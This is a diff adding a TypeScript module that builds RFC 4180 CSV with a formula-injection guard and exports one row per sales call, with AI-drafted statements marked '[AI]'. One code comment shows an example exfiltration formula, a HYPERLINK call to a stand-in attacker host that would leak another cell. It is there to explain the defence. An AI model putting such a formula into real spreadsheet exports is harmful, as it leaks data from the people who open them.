@@ -1,0 +1,180 @@
+/**
+ * RFC 4180 CSV, safe to open in a spreadsheet, and the one-row-per-call export built on it.
+ * Pure: no browser APIs, no clock.
+ */
+import {
+  aiStatements,
+  cleanBlock,
+  filledNextSteps,
+  formatNextStep,
+  formatOffset,
+  hasAiContent,
+  oneLine,
+  sortedTags,
+  statementReviewLabels,
+  tagPhrase,
+  toIso,
+  type CallBundle,
+} from './call-bundle';
+
+export type CsvCell = string | number | boolean | null | undefined;
+
+export interface CsvOptions {
+  /**
+   * Start the file with a UTF-8 byte order mark (U+FEFF). Default true: without it Excel reads
+   * the file in the legacy code page and garbles accents, emoji, CJK and RTL text. Set false for
+   * tools that treat the BOM as part of the first header name.
+   */
+  bom?: boolean;
+}
+
+export const CSV_BOM = '\uFEFF';
+export const CSV_EOL = '\r\n';
+
+/**
+ * Characters that make a spreadsheet treat a cell as a formula (or, for tab and CR, let it slip
+ * one past the check). A CSV opened in Excel, LibreOffice or Google Sheets evaluates a cell such
+ * as `=HYPERLINK("https://evil.example/?"&A1)` or `@SUM(…)`: text a customer or a pasted AI
+ * summary put in a note could then leak other cells or run commands (CSV/formula injection, see
+ * OWASP "CSV Injection"). Text cells starting with one of these get a leading apostrophe, which
+ * spreadsheets read as "this is text" and do not display. Numbers are written as numbers and
+ * never prefixed, so -5 stays a number; the string "-5" becomes '-5 (text stays text).
+ */
+export const FORMULA_TRIGGERS: readonly string[] = ['=', '+', '-', '@', '\t', '\r'];
+
+/**
+ * True when the text starts with a formula trigger, also after leading spaces: some import
+ * settings (LibreOffice's "trim spaces") strip them and would then see the formula.
+ */
+export function needsFormulaGuard(text: string): boolean {
+  const first = text.replace(/^ +/, '').charAt(0);
+  return first !== '' && FORMULA_TRIGGERS.includes(first);
+}
+
+/** The text with a leading apostrophe when it would otherwise start a formula. */
+export function guardFormula(text: string): string {
+  return needsFormulaGuard(text) ? `'${text}` : text;
+}
+
+/** One field as it appears in the file: formula-guarded (text only), quoted when needed. */
+export function csvField(value: CsvCell): string {
+  let text: string;
+  if (value === null || value === undefined) text = '';
+  else if (typeof value === 'number') text = Number.isFinite(value) ? String(value) : '';
+  else if (typeof value === 'boolean') text = value ? 'true' : 'false';
+  else text = guardFormula(value);
+  // Quote on the RFC 4180 specials, and on leading/trailing whitespace, which some readers trim.
+  return /[",\r\n]|^\s|\s$/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
+}
+
+function csvRecord(cells: readonly CsvCell[]): string {
+  // A record of one empty field would be an empty line, which readers skip: write it as "".
+  if (cells.length === 1 && csvField(cells[0]) === '') return '""';
+  return cells.map(csvField).join(',');
+}
+
+/**
+ * The header and rows as RFC 4180 CSV: CRLF after every record (the last included), fields
+ * quoted when they contain a comma, double quote, CR or LF or start/end with whitespace, quotes
+ * doubled, formula-looking text prefixed with an apostrophe, and a UTF-8 BOM unless
+ * `{ bom: false }`. Every row must have as many cells as the header.
+ */
+export function toCsv(header: readonly string[], rows: readonly (readonly CsvCell[])[], options: CsvOptions = {}): string {
+  rows.forEach((row, i) => {
+    if (row.length !== header.length) throw new RangeError(`CSV row ${i + 1} has ${row.length} cells; the header has ${header.length}`);
+  });
+  const body = [header, ...rows].map((r) => csvRecord(r) + CSV_EOL).join('');
+  return (options.bom ?? true ? CSV_BOM : '') + body;
+}
+
+// ---------------------------------------------------------------------------------------------
+// Calls
+
+export const CALLS_CSV_COLUMNS = [
+  'call_id',
+  'platform',
+  'admitted_at',
+  'ended_at',
+  'end_reason',
+  'consent_outcome',
+  'not_recorded_reason',
+  'tags',
+  'checklist_status',
+  'qualification',
+  'next_steps',
+  'timeline',
+  'risks',
+  'competition',
+  'human_nuance',
+  'power_dynamics',
+  'hesitation',
+  'emotion',
+  'urgency',
+  'subtle_objections',
+  'rep_notes',
+  'ai_draft_statements',
+  'ai_marked_wrong_count',
+  'source_of_narrative',
+] as const;
+
+export type CallsCsvColumn = (typeof CALLS_CSV_COLUMNS)[number];
+
+export type CallsCsvOptions = CsvOptions;
+
+/** Multi-value cells (tags, next steps, AI statements) join their items with this. */
+export const CSV_LIST_SEPARATOR = '; ';
+
+/** Marks every AI statement in the CSV, so AI text can never pass for the rep's. */
+export const AI_PREFIX = '[AI]';
+
+function callRow(bundle: CallBundle): Record<CallsCsvColumn, CsvCell> {
+  const { call, checklist, note, aiDraft } = bundle;
+  const f = checklist?.fields;
+  const statements = aiStatements(aiDraft);
+  return {
+    call_id: call.id,
+    platform: call.platform,
+    admitted_at: toIso(call.admittedAt),
+    ended_at: toIso(call.endedAt),
+    end_reason: call.endReason,
+    consent_outcome: call.outcome ?? 'pending',
+    not_recorded_reason: call.outcome === 'not-recorded' ? call.reason : undefined,
+    tags: sortedTags(bundle.tags)
+      .map((t) => {
+        const text = oneLine(t.text);
+        const head = `${formatOffset(t.offsetMs)} ${tagPhrase(t.tag)}`;
+        return text ? `${head}: ${text}` : head;
+      })
+      .join(CSV_LIST_SEPARATOR),
+    checklist_status: checklist?.status ?? 'none',
+    qualification: cleanBlock(f?.qualification),
+    next_steps: filledNextSteps(f?.nextSteps).map(formatNextStep).join(CSV_LIST_SEPARATOR),
+    timeline: cleanBlock(f?.timeline),
+    risks: cleanBlock(f?.risks),
+    competition: cleanBlock(f?.competition),
+    human_nuance: cleanBlock(f?.humanNuance),
+    power_dynamics: cleanBlock(f?.powerDynamics),
+    hesitation: cleanBlock(f?.hesitation),
+    emotion: cleanBlock(f?.emotion),
+    urgency: cleanBlock(f?.urgency),
+    subtle_objections: cleanBlock(f?.subtleObjections),
+    rep_notes: cleanBlock(note?.text),
+    ai_draft_statements: statements.map((s) => `${AI_PREFIX} ${s.text} (${statementReviewLabels[s.review]})`).join(CSV_LIST_SEPARATOR),
+    ai_marked_wrong_count: aiDraft ? statements.filter((s) => s.review === 'wrong').length : null,
+    source_of_narrative: hasAiContent(bundle) ? 'rep + AI draft' : 'rep',
+  };
+}
+
+/**
+ * One row per call (in the order given), columns as in CALLS_CSV_COLUMNS. Times are ISO-8601
+ * UTC; enums are their stored values; consent_outcome is "pending" without a decision and
+ * checklist_status "none" without a checklist. Each AI statement is prefixed "[AI]" and carries
+ * the rep's mark; ai_marked_wrong_count is empty when there is no AI draft.
+ */
+export function callsCsv(bundles: readonly CallBundle[], opts: CallsCsvOptions = {}): string {
+  const rows = bundles.map((b) => {
+    const row = callRow(b);
+    return CALLS_CSV_COLUMNS.map((c) => row[c]);
+  });
+  return toCsv(CALLS_CSV_COLUMNS, rows, opts);
+}
